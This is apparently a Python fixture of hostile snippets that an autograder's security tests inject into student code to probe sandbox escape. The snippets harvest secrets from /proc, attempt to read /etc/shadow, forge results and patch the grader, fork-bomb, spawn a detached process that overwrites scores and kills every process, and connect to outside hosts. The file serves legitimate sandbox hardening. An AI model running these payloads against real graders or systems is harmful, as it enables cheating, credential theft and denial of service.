"""Hostile code for the autograder's battery (test_hostile.py): each attack is rank code that a
submission runs before giving a wrong answer, and prints what it achieved as ATTACK-<KIND>: lines.

An attack never raises (a wrong answer follows it), and never damages anything when it succeeds:
it proves write access by opening a file for append and writing nothing, or by creating and
removing a canary file, and proves read access by printing the path it read.
"""

# Every snippet is indented into a student region by submissions.insert_after_marker, so each is a
# function body that ends by returning the unchanged (wrong) x. attack(SNIPPET, root=..., port=...)
# fills in the kit's path (an attacker can guess it) and a port the test listens on.


def attack(name: str, root: str = "", port: int = 9, ending: str = "return x", stop: str = "") -> str:
    """The snippet called `name`, filled in, then `ending` (the wrong answer it gives). stop: a file whose
    existence ends SABOTAGE's loop early (the neighbour it attacks is done)."""
    snippet = globals()[name]
    code = snippet.replace("__ROOT__", repr(root)).replace("__PORT__", str(port)).replace("__NAME__", repr(name))
    code = code.replace("__STOP__", repr(stop))
    return code + ending + "\n"

PRELUDE = '''
import glob as _g, json as _j, os as _o, socket as _s, subprocess as _sp, sys as _y, time as _t
_root = __ROOT__
_guess = _o.path.dirname(_y.prefix)
_said = {}
def _say(kind, what):
    _said[kind] = _said.get(kind, 0) + 1
    if _said[kind] <= 3 or kind == "DONE":           # the first three of a kind: output stays short
        print(f"ATTACK-{kind}: {what}", flush=True)
'''

# forge records, find the results file through /proc, patch comparison functions and the grader
FORGE = PRELUDE + '''
_paths = set(_g.glob("/tmp/**/*.jsonl", recursive=True)) | set(_g.glob("/tmp/**/results*.json", recursive=True))
for _fd in _g.glob("/proc/*/fd/*"):
    try:
        _paths.add(_o.readlink(_fd))
    except OSError:
        pass
for _env in _g.glob("/proc/*/environ"):
    try:
        for _kv in open(_env, "rb").read().split(b"\\0"):
            if _kv.startswith((b"AUTOGRADER_RESULTS=", b"AUTOGRADER_NONCE=")):
                _say("SECRET", _kv.decode())
                _paths.add(_kv.split(b"=", 1)[1].decode())
    except OSError:
        pass
for _p in sorted(_paths):
    if _p.endswith((".jsonl", ".json")):
        try:
            with open(_p, "a"):
                _say("FORGED", _p)
        except OSError:
            pass
import torch as _torch
_torch.equal = lambda *a, **k: True
_torch.allclose = lambda *a, **k: True
for _name, _mod in list(_y.modules.items()):
    if _name.startswith(("autograder", "assignments", "hw1_", "rank_runs", "_pytest", "pytest")):
        for _attr in list(vars(_mod)):
            if callable(getattr(_mod, _attr, None)) and not _attr.startswith("__"):
                try:
                    setattr(_mod, _attr, lambda *a, **k: None)
                except Exception:
                    pass
_say("DONE", __NAME__)
'''

# edit the hidden tests, the grader's kit copy, the pristine kit (through any link) and the venv
EDIT = PRELUDE + '''
_targets = set()
for _base in {_root, _guess}:
    for _sub in ("autograder", "solutions", "assignments", "minitorch_dist", "tests", "tools", ".git"):
        _targets |= set(_g.glob(f"{_base}/{_sub}/**", recursive=True))
    _targets |= set(_g.glob(f"{_base}/.venv/lib/python*/site-packages/*"))
for _pattern in ("/tmp/autograder-*/**", "/tmp/pytest-of-*/**", f"{_o.getcwd()}/**"):
    _targets |= set(_g.glob(_pattern, recursive=True))
for _pid in _g.glob("/proc/*/cwd"):
    try:
        _cwd = _o.readlink(_pid)
        if _cwd.startswith(("/tmp/", _root, _guess)):     # another grading's copy, the kit
            _targets |= set(_g.glob(_cwd + "/**/*.py", recursive=True))
    except OSError:
        pass
for _p in sorted(_targets):
    try:
        if _o.path.isdir(_p) and not _o.path.islink(_p):
            _c = _o.path.join(_p, ".hostile_canary")
            _fd = _o.open(_c, _o.O_CREAT | _o.O_EXCL | _o.O_WRONLY, 0o600)
            _o.close(_fd)
            _o.unlink(_c)
            _say("WROTE", _p + "/")
        elif _o.path.isfile(_p):
            _fd = _o.open(_p, _o.O_WRONLY | _o.O_APPEND)
            _o.close(_fd)
            _say("WROTE", _p)
    except OSError:
        pass
_say("DONE", __NAME__)
'''

# read hidden tests, solutions, the grader's copies, other gradings and /etc/shadow
READ = PRELUDE + '''
_secret = ["/etc/shadow"]
for _base in {_root, _guess}:
    _secret += [f"{_base}/solutions/minitorch_dist/collectives/all_reduce.py", f"{_base}/autograder/grade.py"]
    _secret += _g.glob(f"{_base}/autograder/**/*.py", recursive=True)
    _secret += _g.glob(f"{_base}/solutions/**/*.py", recursive=True)
_secret += _g.glob("/tmp/autograder-kit-*/**/*.py", recursive=True) + _g.glob("/tmp/autograder-run-*/*")
for _p in _g.glob("/tmp/autograder-student-*"):
    if not _o.getcwd().startswith(_p):
        _secret += _g.glob(_p + "/**/*.py", recursive=True)
for _p in ["/etc/shadow"] + sorted(set(_secret) - {"/etc/shadow"}):    # shadow first: only 3 are said
    try:
        with open(_p, "rb") as _f:
            _f.read(64)
        _say("READ", _p)
    except OSError:
        pass
_say("DONE", __NAME__)
'''

# leave files in the shared folders, and a process with an empty environment in a new session that
# rewrites results later
ESCAPE = PRELUDE + '''
_code = """
# hostile-escaped-sleeper (test_hostile looks for this line among live processes)
import glob, os, signal, time
time.sleep(4)
for p in glob.glob('/tmp/**/results*.json', recursive=True) + glob.glob('/tmp/pytest-of-*/**/*.json', recursive=True):
    try:
        open(p, 'w').write('{"score": 999}')
    except OSError:
        pass
for pid in range(2, 100000):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""
for _dir in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(f"{_dir}/hostile-litter-{_o.getpid()}", "w") as _f:
            _f.write("left behind")
        _say("LITTERED", _dir)
    except OSError:
        pass
try:
    _sp.Popen([_y.executable, "-c", _code], env={}, start_new_session=True, stdin=_sp.DEVNULL,
              stdout=_sp.DEVNULL, stderr=_sp.DEVNULL, close_fds=True)
    _say("SPAWNED", "a sleeper with an empty environment")
except OSError as _e:
    _say("NOSPAWN", _e)
_say("DONE", __NAME__)
'''

# reach the network beyond loopback, and a port the test opened outside the sandbox
NETWORK = PRELUDE + '''
for _host, _port in [("1.1.1.1", 53), ("10.255.255.1", 80), ("127.0.0.1", __PORT__)]:
    try:
        _c = _s.create_connection((_host, _port), timeout=2)
        _c.sendall(b"hello from the sandbox")
        _c.close()
        _say("CONNECTED", f"{_host}:{_port}")
    except OSError:
        pass
_say("DONE", __NAME__)
'''

# resources: memory, processes, disk
MEMORY = PRELUDE + '''
import torch as _torch
_big = _torch.empty(int(8e9), dtype=_torch.uint8)
_big.fill_(1)
_say("DONE", __NAME__)
'''

PROCESSES = PRELUDE + '''
_kids = 0
try:
    for _ in range(5000):
        _pid = _o.fork()
        if _pid == 0:
            _t.sleep(120)
            _o._exit(0)
        _kids += 1
finally:
    _say("FORKED", _kids)
_say("DONE", __NAME__)
'''

DISK = PRELUDE + '''
with open(_o.path.join(_o.environ.get("TMPDIR", "."), "big.bin"), "wb") as _f:
    _chunk = b"\\0" * (1 << 20)
    for _ in range(1024):
        _f.write(_chunk)
_say("DONE", __NAME__)
'''

# for ten seconds: try to edit every other grading's kit copies and poke every listening port
SABOTAGE = PRELUDE + '''
_mine = _o.getcwd()
_end = _t.time() + 10
while _t.time() < _end and not (__STOP__ and _o.path.exists(__STOP__)):
    for _p in _g.glob("/tmp/autograder-*/**/*.py", recursive=True):
        if _p.startswith(_mine):
            continue
        try:
            _fd = _o.open(_p, _o.O_WRONLY | _o.O_APPEND)
            _o.close(_fd)
            _say("WROTE", _p)
        except OSError:
            pass
    try:
        _lines = open("/proc/net/tcp").read().splitlines()[1:]
    except OSError:
        _lines = []
    for _line in _lines:
        _f = _line.split()
        if _f[3] != "0A":                      # LISTEN
            continue
        _port = int(_f[1].split(":")[1], 16)
        try:
            _c = _s.create_connection(("127.0.0.1", _port), timeout=0.2)
            _c.sendall(b"\\xff" * 64)
            _c.close()
            _say("POKED", _port)
        except OSError:
            pass
    _t.sleep(0.5)
_say("DONE", __NAME__)
'''

# print far more than any feedback can hold
OUTPUT = PRELUDE + '''
_line = "x" * (1 << 20)
for _ in range(64):
    print(_line, flush=True)
_say("DONE", __NAME__)
'''

# burn CPU time, and open files without end
SPIN = PRELUDE + '''
while True:
    pass
'''

FILES = PRELUDE + '''
_open = [open(_o.devnull) for _ in range(100000)]
_say("DONE", __NAME__)
'''

# put a proxy of our own where the grader's test process finds the rank host, answering every
# request with the pids of the grader's own processes (which a grader acting on reported pids kills)
PROXY = PRELUDE + '''
_home = _o.environ.get("HOME", ".").rstrip("/")
_victims = []
for _c in _g.glob("/proc/[0-9]*/cmdline"):
    try:
        if b"autograder" in open(_c, "rb").read() or b"pytest" in open(_c, "rb").read():
            _victims.append(int(_c.split("/")[2]))
    except (OSError, ValueError):
        pass
for _sock in (_home + ".host.sock", _home + "/host.sock"):
    try:
        _o.rename(_sock, _sock + ".real")
    except OSError:
        continue
    _srv = _s.socket(_s.AF_UNIX, _s.SOCK_STREAM)
    _srv.bind(_sock)
    _srv.listen(16)
    if _o.fork() == 0:
        from multiprocessing.connection import Connection as _C
        from minitorch_dist.runtime.launching import plain as _plain
        _o.setsid()
        while True:
            _conn = _C(_srv.accept()[0].detach())
            try:
                _conn.recv_bytes()
                _conn.send_bytes(_plain.encode(("pids", _victims)))
                _conn.send_bytes(_plain.encode(("pid", _victims[0] if _victims else 1)))
            except Exception:
                pass
    _say("PROXIED", f"{_sock}: reports pids {_victims[:5]}")
_say("DONE", __NAME__)
'''

# SysV shared memory, a message queue, semaphores and a /dev/shm file, left for the next student
IPC = PRELUDE + '''
import ctypes as _ct
_libc = _ct.CDLL(None, use_errno=True)
for _kind, _id in (("shm", _libc.shmget(0, 1 << 20, 0o1600)), ("msg", _libc.msgget(0, 0o1600)),
                   ("sem", _libc.semget(0, 4, 0o1600))):
    print(f"ATTACK-IPC-MADE: {_kind} {_id}", flush=True)
try:
    with open(f"/dev/shm/hostile-shm-{_o.getpid()}", "wb") as _f:
        _f.write(b"x" * 4096)
    print("ATTACK-IPC-MADE: /dev/shm file", flush=True)
except OSError:
    pass
_say("DONE", __NAME__)
'''

# replace the rank host's output file (which the grader reads after the test) by a link to the
# hidden tests, a FIFO and /dev/zero, then fail so that the output is shown
HOSTOUT = PRELUDE + '''
_home = _o.environ.get("HOME", ".").rstrip("/")
_hidden = sorted(_g.glob(f"{_root}/tests/kit/fixtures/suite/*.py") + _g.glob("/tmp/autograder-kit-*/tests/kit/fixtures/suite/*.py"))
for _out, _how in ((_home + ".host.out", "link"), (_home + "/host.out", "link"), (_home + ".host.out", "fifo")):
    try:
        if _o.path.lexists(_out):
            _o.unlink(_out)
        if _how == "fifo":
            _o.mkfifo(_out)
        else:
            _o.symlink(_hidden[0] if _hidden else "/dev/zero", _out)
        _say("LINKED", f"{_out} ({_how})")
    except OSError:
        pass
print("ATTACK-DONE:", __NAME__, file=_y.stderr, flush=True)
_o.write(2, b"hostile host output\\n")
'''

# many busy processes for as long as the test lets them live
BUSY = PRELUDE + '''
for _ in range(24):
    if _o.fork() == 0:
        _end = _t.time() + 30
        while _t.time() < _end:
            pass
        _o._exit(0)
_say("DONE", __NAME__)
_t.sleep(12)
'''

# task 1.7 done the wrong way: a binomial tree (correct values) whose counters are rewritten to a
# ring's 2(p-1) chunk messages, and whose simulated clock is padded with group.compute() up to the
# ring's cost, alpha and beta measured in-band first (the Group's own counters and clock, both
# written from rank code). Ends with `return x`.
FORGED_RING = '''
import math as _m
from minitorch_dist import cost_model as _cm
from minitorch_dist.runtime.observe.trace import OpCount as _OC
_p, _r, _n, _s = group.size, group.rank, x.numel(), x.element_size()
_saved = {k: (v.calls, v.messages_sent, v.bytes_sent, v.messages_recv, v.bytes_recv, v.tensor_bytes)
          for k, v in group.counters.by_op.items()}
_t0 = group.now()
if _p > 1:
    _probe, _got = torch.zeros(1024), torch.zeros(1024)
    _e, _f = torch.zeros(0), torch.zeros(0)
    group.sendrecv(_e, (_r + 1) % _p, _f, (_r - 1) % _p)
    _alpha = group.now() - _t0
    group.sendrecv(_probe, (_r + 1) % _p, _got, (_r - 1) % _p)
    _beta = max(0.0, (group.now() - _t0 - 2 * _alpha) / 4096)
tree_all_reduce(x, group, op)
group.counters.by_op.clear()
for _k, _v in _saved.items():
    group.counters.by_op[_k] = _OC(*_v)
if _p > 1:
    _sizes = [_n // _p + (1 if _i < _n % _p else 0) for _i in range(_p)]
    def _sent(_q):
        return sum(_sizes[(_q - _k) % _p] + _sizes[(_q + 1 - _k) % _p] for _k in range(_p - 1)) * _s
    _steps = 2 * (_p - 1)
    _o = _saved.get("sendrecv", (0, 0, 0, 0, 0, 0))
    group.counters.by_op["sendrecv"] = _OC(_o[0] + _steps, _o[1] + _steps, _o[2] + _sent(_r), _o[3] + _steps,
                                           _o[4] + _sent((_r - 1) % _p), _o[5])
    _target = _t0 + _cm.ring_all_reduce(_p, _n * _s, _alpha, _beta)
    if _target > group.now():
        group.compute(_target - group.now())
print("ATTACK-DONE: FORGED_RING", flush=True)
'''


# The grading's input secret wherever rank code might find it (the environment, every process's
# environ, the file a variable names): [None, each candidate]. Needs glob as _gl and os as _o.
# Used by the input-rebuilding attacks (test_hostile_inputs.py, test_hostile_inputs_hw36.py).
SECRETS = '''
def _secrets():
    _key = "AUTOGRADER_INPUT_SECRET"
    found = [v for k, v in _o.environ.items() if k.startswith(_key)]
    for _env in _gl.glob("/proc/*/environ"):
        try:
            found += [kv.split(b"=", 1)[1].decode() for kv in open(_env, "rb").read().split(b"\\0")
                      if kv.startswith(_key.encode())]
        except (OSError, IndexError, UnicodeDecodeError):
            pass
    for _v in list(found):
        try:
            found.append(open(_v).read().strip())
        except Exception:
            pass
    return [None] + list(dict.fromkeys(found))
'''
